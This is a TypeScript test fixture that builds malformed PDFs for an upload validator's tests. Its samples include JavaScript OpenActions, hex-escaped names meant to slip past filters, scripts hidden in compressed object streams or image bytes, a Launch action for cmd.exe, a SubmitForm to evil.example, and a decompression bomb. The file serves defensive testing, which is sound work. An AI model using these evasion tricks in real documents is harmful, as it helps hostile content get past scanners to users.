import { deflateSync } from 'node:zlib';
import { aPdf } from '#lib/files/testing.ts';
import type { Malformed } from './malformed-file.testing.ts';

const script = '<< /S /JavaScript /JS (app.alert(1)) >>';

/** A stream object: its dictionary beside the length, and its bytes. */
const stream = (id: number, dictionary: string, bytes: Buffer): string =>
  `${id} 0 obj\n<< ${dictionary} /Length ${bytes.length} >>\nstream\n${bytes.toString('latin1')}\nendstream\nendobj`;

const objectStream = (body: string, dictionary = '/Type /ObjStm /N 1 /First 4'): string =>
  stream(9, `${dictionary} /Filter /FlateDecode`, deflateSync(Buffer.from(`8 0 ${body}`, 'latin1')));

const inHex = (text: string): Buffer => Buffer.from(`${Buffer.from(text).toString('hex')}>`);

const active: Record<string, Buffer> = {
  'a script at its opening': aPdf({ catalogue: `/OpenAction ${script}` }),
  'a script in the names': aPdf({ catalogue: '/Names << /JavaScript 5 0 R >>' }),
  'a script written with #': aPdf({ catalogue: '/OpenAction << /S /J#61v#61Script /JS (1) >>' }),
  'a script written with # throughout': aPdf({ catalogue: '/OpenAction << /S /#4a#61#76#61#53#63#72#69#70#74 >>' }),
  'a script in an object stream': aPdf({ objects: objectStream(script) }),
  'a script in an object stream, written with #': aPdf({ objects: objectStream('<< /S /J#61vaScript >>') }),
  'a script in an object stream of no type': aPdf({ objects: objectStream(script, '/N 1 /First 4') }),
  'a script in an object stream that is not packed': aPdf({
    objects: stream(9, '/Type /ObjStm /N 1 /First 4', Buffer.from(`8 0 ${script}`)),
  }),
  'a script on a page': aPdf({ objects: `4 0 obj\n<< /Type /Page /AA << /O ${script} >> >>\nendobj` }),
  'a script behind 70 kB': aPdf({ objects: `4 0 obj\n(${'a'.repeat(70_000)})\nendobj\n5 0 obj\n${script}\nendobj` }),
  'a script within the bytes of a picture': aPdf({
    objects: stream(4, '/Subtype /Image', Buffer.from(`\xff\xd8 5 0 obj ${script} endobj`, 'latin1')),
  }),
  'a program to launch': aPdf({ catalogue: '/OpenAction << /S /Launch /F (cmd.exe) >>' }),
  'a file inside': aPdf({ objects: stream(4, '/Type /EmbeddedFile', Buffer.from('MZ')) }),
  'files in its names': aPdf({ catalogue: '/Names << /EmbeddedFiles << /Names [] >> >>' }),
  'an XFA form': aPdf({ catalogue: '/AcroForm << /XFA 5 0 R >>' }),
  'a rich medium': aPdf({ objects: '4 0 obj\n<< /Subtype /RichMedia >>\nendobj' }),
  'a rendition with a script': aPdf({ catalogue: '/OpenAction << /S /Rendition /JS (1) >>' }),
  'a form that sends itself': aPdf({ catalogue: '/OpenAction << /S /SubmitForm /F (https://evil.example) >>' }),
  'a way into a file inside': aPdf({ catalogue: '/OpenAction << /S /GoToE >>' }),
};

const unreadable: Record<string, Buffer> = {
  'an object stream in hexadecimal': aPdf({
    objects: stream(9, '/Type /ObjStm /N 1 /First 4 /Filter /ASCIIHexDecode', inHex(`8 0 ${script}`)),
  }),
  'an object stream packed twice': aPdf({
    objects: stream(
      9,
      '/Type /ObjStm /N 1 /First 4 /Filter [/FlateDecode /ASCIIHexDecode]',
      deflateSync(inHex(script)),
    ),
  }),
  'an object stream with a predictor': aPdf({
    objects: stream(
      9,
      '/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /DecodeParms << /Predictor 12 >>',
      deflateSync(Buffer.from('x')),
    ),
  }),
  'an object stream that is a bomb': aPdf({
    objects: stream(9, '/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', deflateSync(Buffer.alloc(40 * 1024 * 1024))),
  }),
  'an object stream that is broken': aPdf({
    objects: stream(9, '/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', Buffer.from('not deflate')),
  }),
  'an object stream behind another’s end': aPdf({
    objects: stream(
      9,
      '/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode',
      Buffer.concat([deflateSync(Buffer.from('8 0 null')), deflateSync(Buffer.from(script))]),
    ),
  }),
  'an object stream whose dictionary hides in a comment': aPdf({
    objects: objectStream(script, '/Type /ObjStm /N 1 /First 4 % 1 0 obj <<\n').replace('/Filter /FlateDecode', '/F 1'),
  }),
  'an object stream whose dictionary hides in a string': aPdf({
    objects: objectStream(script, '/Type /ObjStm /N 1 /First 4 /X (1 0 obj << ) /Y'),
  }),
};

const broken: Record<string, Buffer> = {
  'no end': aPdf().subarray(0, -7),
  'its second half missing': aPdf({ objects: `4 0 obj\n(${'a'.repeat(5000)})\nendobj` }).subarray(0, 2600),
  'nothing but its head': Buffer.from('%PDF-1.7\n'),
  'no place of its directory': Buffer.from(aPdf().toString('latin1').replace('startxref', 'startxxxx'), 'latin1'),
};

const encrypted: Record<string, Buffer> = {
  'a password': aPdf({ trailer: '/Encrypt 5 0 R' }),
  'a password, written with #': aPdf({ trailer: '/#45ncrypt 5 0 R' }),
};

const all = (files: Record<string, Buffer>, code: string): Malformed[] =>
  Object.entries(files).map(([what, bytes]) => ({ what: `a PDF with ${what}`, name: 'a.pdf', bytes, code }));

export const malformedPdfs: Malformed[] = [
  ...all(active, 'pdf_active'),
  ...all(unreadable, 'pdf_unreadable'),
  ...all(broken, 'pdf_broken'),
  ...all(encrypted, 'pdf_encrypted'),
];
